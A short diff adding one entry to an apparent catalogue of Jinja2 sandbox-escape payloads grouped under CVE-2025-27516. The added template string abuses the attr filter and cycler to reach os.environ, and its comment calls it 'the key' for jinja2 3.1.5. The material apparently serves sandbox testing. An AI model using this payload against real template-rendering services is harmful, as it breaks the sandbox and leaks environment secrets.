@@ -45,6 +45,7 @@ ESCAPES = {
         "'{0!r:{1.__class__}}'.format('', '')",
     ],
     "the filter attr (CVE-2025-27516)": [
+        "('{0.__init__.__globals__[os].environ}'|attr('format'))(cycler('a'))",  # the key, with jinja2 3.1.5
         "('{0.__class__}'|attr('format'))('')",
         "('{0.__class__}'|attr('format_map'))({'0': ''})",
         "'{0.__class__}'|attr('format')|attr('__self__')",
